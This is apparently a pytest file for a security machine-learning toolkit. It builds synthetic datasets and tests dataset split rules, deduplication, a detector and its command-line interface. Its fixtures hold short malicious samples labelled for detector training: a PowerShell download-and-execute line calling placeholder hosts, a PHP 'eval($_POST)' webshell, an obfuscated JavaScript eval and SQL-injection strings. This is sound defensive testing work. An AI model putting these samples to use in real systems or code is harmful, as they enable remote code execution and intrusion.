"""Task registry, dataset adapters' split rules, the generic detector and its CLI.

Every dataset file here is a tiny synthetic copy of the shared layout, written to tmp_path
(hermetic: ../shared/datasets is never read).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import struct
from pathlib import Path

import pytest

from secllm.tasks.finetune import Examples, FinetuneConfig
from secllm.tasks.registry import BASELINES, finalize_splits, get_task, list_tasks

ALL = ("web-attack", "url", "script", "traffic", "log-hdfs", "log-bgl", "cti-attack", "evtx-tactic")


# ----------------------------------------------------------------------------------------------
# tiny datasets in the shared layout
# ----------------------------------------------------------------------------------------------

def _gz(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with gzip.open(path, "wt", encoding="utf-8") as f:
        f.write(text)


def _csv(rows: list[dict]) -> str:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerows(rows)
    return buf.getvalue()


@pytest.fixture()
def root(tmp_path: Path) -> Path:
    r = tmp_path / "datasets"
    rng = random.Random(0)
    # url: 40 registered domains, several hosts and paths each; a duplicated row
    rows = []
    for d in range(40):
        label = ["benign", "phishing", "malware", "spam"][d % 4]
        for k in range(4):
            rows.append({"url": f"http://h{k}.site{d}.com/p{k}/x{d}.html", "label": label})
    rows.append(dict(rows[0]))
    _gz(r / "url_iscx2016" / "iscx_url2016_4class.csv.gz", _csv(rows))
    pt = [{"phish_id": i, "url": u, "submission_time": "2020-01-01"} for i, u in
          enumerate(["http://login.bank-x.ru/a", "http://login.bank-x.ru/a", "http://pay.site0.com/login",
                     "http://verify.acct-y.top/z"])]
    _gz(r / "url_iscx2016" / "phishtank_online_valid_2020-05.csv.gz", _csv(pt))
    # powershell: duplicates and one hash labelled both ways
    ps = []
    for i in range(30):
        ps.append({"file": f"m{i}.ps1", "label": "malicious", "sha256": f"m{i:062d}",
                   "text": f"IEX (New-Object Net.WebClient).DownloadString('http://e{i}.x/a')"})
        ps.append({"file": f"b{i}.ps1", "label": "benign", "sha256": f"b{i:062d}",
                   "text": f"function Get-Thing{i} {{ param($a) Write-Output $a }}"})
    ps.append(dict(ps[0]))
    ps.append({**ps[1], "label": "malicious"})           # conflicting hash: dropped entirely
    _gz(r / "powershell_mpsd" / "mpsd_powershell.jsonl.gz", "\n".join(json.dumps(x) for x in ps))
    php = [{"file": f"w{i}.php", "label": "webshell", "family": "dama", "sha256": f"w{i}",
            "text": f"<?php eval($_POST['c{i}']); ?>"} for i in range(5)]
    php += [{"file": f"wp{i}.php", "label": "benign", "family": "wordpress", "sha256": f"wp{i}",
             "text": f"<?php function wp_{i}() {{ return get_option('x'); }}"} for i in range(3)]
    _gz(r / "php_webshell_1book" / "php_webshell_vs_wordpress.jsonl.gz", "\n".join(json.dumps(x) for x in php))
    js = [{"file": f"j{i}.js", "family": "angler", "kind": "js", "sha256": f"j{i}",
           "text": f"eval(unescape('%75%{i:02d}'))"} for i in range(10)]
    _gz(r / "js_malicious_geeksonsecurity" / "js_malicious.jsonl.gz", "\n".join(json.dumps(x) for x in js))
    # USTC-TFC IDX images: 3 classes x 12 sessions (+ one duplicate, one conflicting image)
    imgs, labs = [], []
    for lab in (1, 10, 17):
        for k in range(12):
            payload = bytes([lab, k]) + bytes(rng.randrange(256) for _ in range(300))
            imgs.append(payload[:784].ljust(784, b"\0"))
            labs.append(lab)
    imgs += [imgs[0], imgs[1]]
    labs += [1, 10]                                         # imgs[1] now carries two labels
    d = r / "traffic_ustc_tfc2016"
    d.mkdir(parents=True)
    with gzip.open(d / "20class_SessionL7_test-images-idx3-ubyte.gz", "wb") as f:
        f.write(struct.pack(">IIII", 2051, len(imgs), 28, 28) + b"".join(imgs))
    with gzip.open(d / "20class_SessionL7_test-labels-idx1-ubyte.gz", "wb") as f:
        f.write(struct.pack(">II", 2049, len(labs)) + bytes(labs))
    (d / "classes.csv").write_text("label_20class,name,group,label_10class_within_group,verified\n"
                                   "1,Facetime,benign,1,yes\n10,Cridex,malware,0,inferred\n17,Tinba,malware,7,yes\n")
    # HDFS sessions
    _gz(r / "hdfs_deeplog" / "hdfs_train.txt.gz",
        "\n".join(" ".join(str(rng.choice([5, 22, 11, 9])) for _ in range(rng.randint(4, 9))) for _ in range(60)))
    _gz(r / "hdfs_deeplog" / "hdfs_test_abnormal.txt.gz",
        "\n".join(" ".join(str(rng.choice([5, 7, 13, 28])) for _ in range(rng.randint(4, 9))) for _ in range(60)))
    # BGL: 100 lines in time order, alerts in a burst
    lines = []
    for i in range(100):
        tag = "KERNDTLB" if 40 <= i < 50 or i >= 90 else "-"
        ts = 1117838570 + 10 * i
        lines.append(f"{tag} {ts} 2005.06.03 R02-M1-N{i % 7}-C:J12-U11 2005-06-03-15.42.{i:02d}.675872 "
                     f"R02-M1-N{i % 7}-C:J12-U11 RAS KERNEL {'FATAL data TLB error' if tag != '-' else 'INFO ok'} {i}")
    _gz(r / "loghub_2k" / "BGL_2k.log.gz", "\n".join(lines))
    # TRAM: 20 reports x 6 sentences, 4 techniques; one sentence repeated across reports
    tram = [{"text": f"Report {rep} sentence {k}: the actor used technique {k % 4}.", "label": f"T10{k % 4}",
             "doc_title": f"report-{rep}"} for rep in range(20) for k in range(6)]
    tram += [{"text": "Shared boilerplate.", "label": "T100", "doc_title": f"report-{rep}"} for rep in (0, 19)]
    _gz(r / "tram_attack" / "tram2_single_label.json.gz", json.dumps(tram))
    # EVTX: 20 files, 5 events each, tactic per file
    tactics = ["Execution", "Persistence", "Discovery", "Credential Access"]
    ev = [{"file": f"{tactics[f % 4]}/f{f}.evtx", "tactic": tactics[f % 4], "record": k, "event_id": 1,
           "channel": "Sysmon", "provider": "Sysmon",
           "xml": f'<Event xmlns="http://x"><System><EventRecordID>{k}</EventRecordID><Computer>PC{f}</Computer>'
                  f'</System><EventData><Data Name="Image">C:\\f{f}\\e{k}.exe</Data>'
                  f'<Data Name="UtcTime">2019-04-27 15:57:2{k}.868</Data></EventData></Event>'}
          for f in range(20) for k in range(5)]
    _gz(r / "evtx_attack_samples" / "evtx_attack_samples.jsonl.gz", "\n".join(json.dumps(x) for x in ev))
    return r


# ----------------------------------------------------------------------------------------------
# registry
# ----------------------------------------------------------------------------------------------

def test_registry_lists_every_task_with_valid_baselines():
    assert set(ALL) <= set(list_tasks())
    for name in ALL:
        spec = get_task(name)
        assert spec.name == name and spec.split_rule and spec.baselines
        assert all(b in BASELINES for b in spec.baselines)
        assert spec.benign_label is None or spec.benign_label in spec.labels
    with pytest.raises(KeyError, match="known tasks"):
        get_task("nope")


def test_preparation_matches_corpus_form():
    from secllm.data.corpus import prepare_text as corpus_prepare
    from secllm.data.records import Record

    url = "http://10.0.0.1/a%20b?q=%27or%201=1"
    assert get_task("url").prep(url) == corpus_prepare(Record(id="x", modality="url", text=url))[0]
    hexes = " ".join(f"{i % 256:02x}" for i in range(400))
    assert get_task("traffic").prep(hexes) == corpus_prepare(
        Record(id="f", modality="flow", text=hexes, data=bytes(i % 256 for i in range(400))))[0]
    with pytest.raises(ValueError):
        get_task("traffic").prep("zz yy")
    with pytest.raises(ValueError):
        get_task("log-hdfs").prep("hello world")


def test_finalize_splits_drops_cross_split_duplicates():
    d = finalize_splits({"train": [("a", "log", "x", "s"), ("a", "log", "x", "s")],
                         "val": [("a", "log", "x", "s"), ("b", "log", "y", "s")],
                         "test": [("b", "log", "y", "s"), ("c", "log", "x", "s")]})
    assert d["train"].texts == ["a"] and d["val"].texts == ["b"] and d["test"].texts == ["c"]
    assert d["_info"]["dropped"] == {"train": {"duplicate": 1}, "val": {"in_train": 1}, "test": {"in_val": 1}}


# ----------------------------------------------------------------------------------------------
# split rules on synthetic datasets
# ----------------------------------------------------------------------------------------------

def _disjoint(data, key=lambda t: t):
    groups = {k: {key(t) for t in v.texts} - {None} for k, v in data.splits.items()}
    for a in ("train",):
        for b, g in groups.items():
            if b != a:
                assert not (groups[a] & g), f"{b} shares groups with {a}: {sorted(groups[a] & g)[:3]}"
    return groups


def test_url_domain_split_and_phishtank_drift(root):
    from secllm.data.sources import registered_domain

    data = get_task("url").load(root)
    groups = _disjoint(data, key=registered_domain)
    assert groups["val"].isdisjoint(groups["test"])
    drift = data.splits["test:phishtank"]
    assert drift.texts.count("http://login.bank-x.ru/a") == 1                    # deduplicated
    assert not any("site0.com" in t for t, l in zip(drift.texts, drift.labels) if l == "phishing") or \
        "site0.com" not in groups["train"]                                       # ISCX train domain dropped
    benign_test = [t for t, l in zip(data.splits["test"].texts, data.splits["test"].labels) if l == "benign"]
    assert sorted(t for t, l in zip(drift.texts, drift.labels) if l == "benign") == sorted(benign_test)


def test_url_site_roots_and_scheme_neutral_https(root):
    from secllm.tasks.url import _https, site_host

    default = get_task("url").load(root)                                         # augmentation is opt-in
    aug = get_task("url").loader(root, site_roots=True)
    plain = get_task("url").loader(root, site_roots=False)
    for split in ("train", "val"):
        assert default.splits[split].texts == plain[split].texts
        assert "site-root" not in set(default.splits[split].sources)
    assert aug["test"].texts == plain["test"].texts                               # test untouched
    assert default.splits["test:site-roots"].texts == aug["test:site-roots"].texts
    data = type(default)({k: v for k, v in aug.items() if not k.startswith("_")}, aug["_info"])
    for split in ("train", "val"):
        ex, old = data.splits[split], plain[split]
        benign_hosts = {site_host(t) for t, lab in zip(old.texts, old.labels) if lab == "benign"}
        roots = [t for t, s in zip(ex.texts, ex.sources) if s == "site-root"]
        assert roots and {site_host(t) for t in roots} == benign_hosts
        assert all(lab == "benign" and t.endswith("/") and t.count("/") == 3
                   for t, lab, s in zip(ex.texts, ex.labels, ex.sources) if s == "site-root")
        # 30% by hash, every class alike: the scheme says nothing about the label
        rows = [t for t, s in zip(ex.texts, ex.sources) if s != "site-root"]
        assert [("https://" + t[7:]) if _https(t) else t for t in old.texts] == rows
        by_label = {lab: [t.startswith("https://") for t, l2 in zip(ex.texts, ex.labels) if l2 == lab]
                    for lab in set(ex.labels)}
        assert all(any(v) for v in by_label.values()) or split == "val"
    probe = data.splits["test:site-roots"]
    test_benign = {site_host(t) for t, lab in zip(plain["test"].texts, plain["test"].labels) if lab == "benign"}
    assert set(probe.labels) == {"benign"} and len(probe) == 2 * len(test_benign)
    assert {site_host(t) for t in probe.texts} == test_benign
    assert not set(probe.texts) & (set(data.splits["train"].texts) | set(data.splits["val"].texts))
    assert site_host("<ipv4>/a") is None and site_host("http://www.x.org:81/p?q") == "www.x.org:81"
    # reports resample the split's unit: the group of a URL is the registered domain the split used
    spec = get_task("url")
    assert spec.group_of("http://a.b.example.co.uk/x?y=1", "iscx") == spec.group_of("https://example.co.uk/", "") \
        == "example.co.uk"
    from secllm.data.sources import registered_domain
    test = plain["test"]
    assert all(spec.group_of(t, "") == registered_domain(t) for t in test.texts)
    assert not {spec.group_of(t, "") for t in test.texts} & {spec.group_of(t, "") for t in plain["train"].texts}


def test_script_dedupe_conflicts_and_cross_source(root, tmp_path):
    from secllm.tasks import script

    js_dir = tmp_path / "js"
    js_dir.mkdir()
    (js_dir / "lib.js").write_text("function add(a, b) { return a + b; }")
    data = get_task("script").load(root)          # default benign-JS dir may or may not exist here
    raw = script.load(root, js_benign_dir=js_dir)
    texts = [t for k in ("train", "val", "test") for t in raw[k].texts]
    assert len(texts) == len(set(texts)) == 59                                   # 60 hashes - the conflicting one
    assert not any("Get-Thing0 " in t for t in texts)                            # conflicting hash dropped
    assert set(raw["test:php_webshell"].labels) == {"benign", "malicious"}
    assert raw["test:js_malicious"].labels.count("benign") == 1
    assert set(data.splits) >= {"train", "val", "test", "test:php_webshell", "test:js_malicious"}


def test_traffic_dedupe_conflicts_and_flow_text(root):
    data = get_task("traffic").load(root)
    all_rows = [(t, l) for ex in data.splits.values() for t, l in zip(ex.texts, ex.labels)]
    assert len(all_rows) == 35                                     # 36 unique - the conflicting image
    assert {l for _, l in all_rows} == {"Facetime", "Cridex", "Tinba"}
    assert all(len(t.split()) == 256 for t, _ in all_rows)         # first 256 bytes, hex pairs
    _disjoint(data)


def test_hdfs_has_normal_validation_and_no_shared_sequence(root):
    data = get_task("log-hdfs").load(root)
    assert set(data.splits["val"].labels) == {"normal", "anomaly"}
    assert "normal" in data.splits["test"].labels
    assert all(t.startswith("e") for t in data.splits["train"].texts)
    _disjoint(data)


def test_bgl_is_chronological_and_stripped(root):
    data = get_task("log-bgl").load(root)
    order = {k: [int(t.rsplit(" ", 1)[1]) for t in v.texts] for k, v in data.splits.items()}
    assert max(order["train"]) < min(order["val"]) <= max(order["val"]) < min(order["test"])
    for t in data.splits["train"].texts:
        assert not t.startswith(("-", "KERN")) and "2005" not in t and "1117838" not in t
    assert "alert" in data.splits["test"].labels


def test_tram_report_split(root):
    data = get_task("cti-attack").load(root)
    groups = _disjoint(data, key=lambda t: t.split(" sentence")[0] if t.startswith("Report") else None)
    assert groups["val"].isdisjoint(groups["test"])
    assert get_task("cti-attack").label_set(data) == ["T100", "T101", "T102", "T103"]
    all_texts = [t for ex in data.splits.values() for t in ex.texts]
    assert len(all_texts) == len(set(all_texts)) and all_texts.count("Shared boilerplate.") == 1


def test_evtx_file_split_and_compaction(root):
    import re

    data = get_task("evtx-tactic").load(root)
    groups = _disjoint(data, key=lambda t: re.search(r"C:\\(f\d+)", t).group(1))
    assert groups["val"].isdisjoint(groups["test"])
    t = data.splits["train"].texts[0]
    assert "xmlns" not in t and "EventRecordID" not in t and "PC" not in t and "2019" not in t


# ----------------------------------------------------------------------------------------------
# the generic detector
# ----------------------------------------------------------------------------------------------

def _sessions(n, rng, keys):
    return [" ".join(str(rng.choice(keys)) for _ in range(rng.randint(3, 8))) for _ in range(n)]


@pytest.fixture(scope="module")
def hdfs_model(tmp_path_factory, tiny_base):
    from secllm.tasks.finetune import finetune

    rng = random.Random(1)
    spec = get_task("log-hdfs")
    norm = [spec.prep(s) for s in _sessions(30, rng, [5, 22, 11, 9])]
    anom = [spec.prep(s) for s in _sessions(30, rng, [5, 7, 13, 28])]
    ex = Examples(norm + anom, ["log"] * 60, ["normal"] * 30 + ["anomaly"] * 30)
    return finetune(ex, ex, ["normal", "anomaly"], tmp_path_factory.mktemp("hdfs"), base_dir=tiny_base,
                    cfg=FinetuneConfig(epochs=3, lr=3e-3, batch_tokens=512), task="log-hdfs",
                    benign_label="normal", progress=False)


@pytest.fixture(scope="module")
def traffic_model(tmp_path_factory, tiny_base):
    from secllm.tasks.finetune import finetune

    rng = random.Random(2)
    texts, labels = [], []
    for lab, head in (("Facetime", b"\x17\x03\x03"), ("Tinba", b"POST /")):
        for _ in range(20):
            texts.append((head + bytes(rng.randrange(256) for _ in range(30))).hex(" "))
            labels.append(lab)
    ex = Examples(texts, ["flow"] * len(texts), labels)
    return finetune(ex, ex, ["Facetime", "Tinba"], tmp_path_factory.mktemp("traffic"), base_dir=tiny_base,
                    cfg=FinetuneConfig(epochs=2, lr=3e-3, batch_tokens=1024), task="traffic",
                    benign_label=None, progress=False)


def test_task_detector_statuses(hdfs_model):
    from secllm.detect.generic import TaskDetector

    det = TaskDetector.load(hdfs_model)
    assert det.spec.name == "log-hdfs" and det.labels == ["normal", "anomaly"]
    res = det.detect(["5 22 11 9", "", "   ", "x" * 70_000, 42, "GET / HTTP/1.1", "\x00\xff\x1b[31m"],
                     ids=list("abcdefg"))
    assert [r.status for r in res] == ["ok", "empty", "empty", "too_large", "bad_input", "bad_input", "bad_input"]
    ok = res[0]
    assert ok.label in ("benign", "malicious") and 0 <= ok.score <= 1
    assert set(ok.class_scores) == {"normal", "anomaly"}
    assert all(r.error for r in res[1:])
    json.dumps([r.to_json() for r in res])                         # serialisable


def test_task_detector_evidence_points_into_input(traffic_model):
    from secllm.detect.generic import TaskDetector

    det = TaskDetector.load(traffic_model)
    payload = ("50 4f 53 54 20 2f " + " ".join(["41"] * 20))
    r = det.detect([payload])[0]
    assert r.status == "ok" and r.label in ("Facetime", "Tinba") and r.evidence
    for e in r.evidence:
        assert e.part == "bytes" and 0 <= e.start < e.end <= 26
        assert e.text == " ".join(payload.split()[e.start:e.end])


def _write_pcap(path: Path) -> None:
    from scapy.layers.inet import IP, TCP, UDP
    from scapy.utils import wrpcap

    pkts = [IP(src="10.0.0.1", dst="10.0.0.2") / TCP(sport=1234, dport=80, flags="PA") / b"POST /x HTTP/1.1\r\n",
            IP(src="10.0.0.2", dst="10.0.0.1") / TCP(sport=80, dport=1234, flags="PA") / b"HTTP/1.1 200 OK\r\n",
            IP(src="10.0.0.3", dst="10.0.0.4") / TCP(sport=5555, dport=443, flags="S"),          # no payload
            IP(src="10.0.0.5", dst="10.0.0.6") / UDP(sport=5353, dport=53) / b"\x17\x03\x03abc"]
    wrpcap(str(path), pkts)


def test_detect_pcap_flows_and_malformed_captures(traffic_model, tmp_path):
    from secllm.detect.generic import TaskDetector

    det = TaskDetector.load(traffic_model)
    good = tmp_path / "good.pcap"
    _write_pcap(good)
    res = det.detect_pcap(good)
    assert [r.status for r in res] == ["ok", "empty", "ok"]
    assert all(r.kind == "flow" for r in res)
    truncated = tmp_path / "cut.pcap"
    truncated.write_bytes(good.read_bytes()[:-7])
    res = det.detect_pcap(truncated)
    assert res[-1].status == "bad_input" and res[-1].error
    garbage = tmp_path / "garbage.pcap"
    garbage.write_bytes(b"\xd4\xc3\xb2\xa1" + bytes(range(256)) * 3)
    res = det.detect_pcap(garbage)
    assert res and res[-1].status == "bad_input"
    (tmp_path / "empty.pcap").write_bytes(b"")
    assert all(r.status == "bad_input" for r in det.detect_pcap(tmp_path / "empty.pcap"))
    with pytest.raises(FileNotFoundError):
        det.detect_pcap(tmp_path / "missing.pcap")


# ----------------------------------------------------------------------------------------------
# CLI
# ----------------------------------------------------------------------------------------------

def test_cli_detect_task_pcap_and_malformed_log(traffic_model, hdfs_model, tmp_path):
    from click.testing import CliRunner

    from secllm.cli import main

    pcap = tmp_path / "cap.pcap"
    _write_pcap(pcap)
    r = CliRunner().invoke(main, ["detect", "--task", "traffic", "--model", str(traffic_model), "--file", str(pcap),
                                  "--json"])
    assert r.exit_code == 0, r.output
    rows = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    assert [x["status"] for x in rows] == ["ok", "empty", "ok"]
    bad_log = tmp_path / "bad.log"
    bad_log.write_bytes(b"5 22 11\n\xff\xfe\x00garbage\n\n" + b"9 " * 40_000 + b"\n1f8b not gzip\n")
    r = CliRunner().invoke(main, ["detect", "--task", "log-hdfs", "--model", str(hdfs_model), "--file", str(bad_log),
                                  "--json", "--no-evidence"])
    assert r.exit_code == 0, r.output
    rows = [json.loads(x) for x in r.stdout.splitlines() if x.startswith("{")]
    assert [x["status"] for x in rows] == ["ok", "bad_input", "empty", "too_large", "bad_input"]
    r = CliRunner().invoke(main, ["detect", "--task", "nope", "x"])
    assert r.exit_code != 0 and "available" in r.output
    r = CliRunner().invoke(main, ["detect", "--task", "url", "--model", str(hdfs_model), "http://a.b/"])
    assert r.exit_code != 0 and "no model for task" in r.output


def test_probe_benchmark_smoke(root, tiny_base, tmp_path):
    """benchmarks/probe.py: both frozen encoders probed on the same label subset, figures written."""
    import importlib.util

    path = Path(__file__).resolve().parents[1] / "benchmarks" / "probe.py"
    mod_spec = importlib.util.spec_from_file_location("probe_bench", path)
    probe = importlib.util.module_from_spec(mod_spec)
    mod_spec.loader.exec_module(probe)
    out = tmp_path / "probe.json"
    assert probe.main(["--task", "url", "--base", str(tiny_base), "--datasets", str(root), "--train-fraction", "0.5",
                       "--seeds", "0,1", "--max-length", "32", "--out", str(out)]) == 0
    rep = json.loads(out.read_text())
    n_train = len(get_task("url").load(root).splits["train"])
    assert [r["seed"] for r in rep["rows"]] == [0, 1]
    for r in rep["rows"]:
        assert r["train_rows"] == round(0.5 * n_train)
        for name in ("pretrained", "random-init"):
            assert 0.0 <= r[name]["test_macro_f1"] <= 1.0 and r[name]["C"] in (0.01, 0.1, 1.0, 10.0)
        assert -1.0 <= r["test_difference_95"]["low"] <= r["test_difference_95"]["high"] <= 1.0
    assert set(rep["mean_test_macro_f1"]) == {"pretrained", "random-init"}


def test_cli_finetune_adapter_seed(root, tiny_base, tmp_path):
    """`secllm finetune TASK --adapter lora --seed N`: the seed reaches the training config (run-to-run
    variance is measured by changing it), and two seeds give different adapters."""
    from click.testing import CliRunner

    from secllm.cli import main

    outs = {}
    for seed in (0, 3):
        out = tmp_path / f"s{seed}"
        r = CliRunner().invoke(main, ["finetune", "cti-attack", "--base", str(tiny_base), "--adapter", "lora",
                                      "--out", str(out), "--epochs", "1", "--seed", str(seed), "--datasets", str(root)])
        assert r.exit_code == 0, r.output
        meta = json.loads((out / "adapters" / "cti-attack" / "task.json").read_text())
        assert meta["finetune"]["config"]["seed"] == seed
        outs[seed] = (out / "adapters" / "cti-attack" / "adapter_model.safetensors").read_bytes()
    assert outs[0] != outs[3]


def _bench(name: str):
    import importlib.util

    path = Path(__file__).resolve().parents[1] / "benchmarks" / f"{name}.py"
    mod_spec = importlib.util.spec_from_file_location(f"bench_{name}", path)
    mod = importlib.util.module_from_spec(mod_spec)
    mod_spec.loader.exec_module(mod)
    return mod


def test_seeds_summary_pairs_runs_by_seed(tmp_path):
    """benchmarks/seeds_summary.py: systems matched across runs by the --seed in each report's command."""
    f1 = {0: (0.80, 0.70), 1: (0.90, 0.85), 2: (0.70, 0.68)}
    for seed, (a, b) in f1.items():
        d = tmp_path / f"run-s{seed}" / "test"
        d.mkdir(parents=True)
        flag = f" --seed {seed}" if seed else ""          # seed 0: the flag left out, as tasks.py's default
        rep = {"command": f"benchmarks/tasks.py --task traffic --out x{flag}",
               "systems": {n: {"ci95": {"macro_f1": {"estimate": v}}} for n, v in (("pre", a), ("rnd", b))}}
        (d / "report.json").write_text(json.dumps(rep))
    out = tmp_path / "summary.json"
    summary = _bench("seeds_summary")
    assert summary.main(["--system", f"p=pre:{tmp_path}/run-s*", "--system", f"r=rnd:{tmp_path}/run-s*",
                         "--pair", "p,r", "--out", str(out)]) == 0
    res = json.loads(out.read_text())
    assert res["systems"]["p"]["by_seed"] == {"0": 0.8, "1": 0.9, "2": 0.7}
    pair = res["pairs"]["p - r"]
    assert pair["differences"] == [0.1, 0.05, 0.02] and pair["positive"] == 3
    assert pair["mean"] == pytest.approx(0.0567, abs=1e-4)
    assert pair["t95"][0] < pair["mean"] < pair["t95"][1]
    with pytest.raises(SystemExit, match="no system"):
        summary.main(["--system", f"p=nope:{tmp_path}/run-s*"])


def test_mlm_eval_benchmark_smoke(tiny_base, tmp_path):
    """benchmarks/mlm_eval.py: per-modality masked-token scores of each base on the corpus's val split."""
    val = tmp_path / "corpus" / "val"
    val.mkdir(parents=True)
    rows = [{"m": "payload", "t": "' or 1=1--"}, {"m": "url", "t": "http://a.example/x?y=1"}] * 6
    (val / "corpus.jsonl").write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    out = tmp_path / "mlm.json"
    assert _bench("mlm_eval").main(["--corpus", str(tmp_path / "corpus"), "--base", f"a={tiny_base}",
                                    "--base", f"b={tiny_base}", "--per-modality", "4", "--out", str(out)]) == 0
    res = json.loads(out.read_text())
    a, b = res["bases"]["a"]["by_modality"], res["bases"]["b"]["by_modality"]
    assert set(a) == {"payload", "url"} and a["url"]["rows"] == 4
    assert a == b                                        # same base, same masked positions → same scores
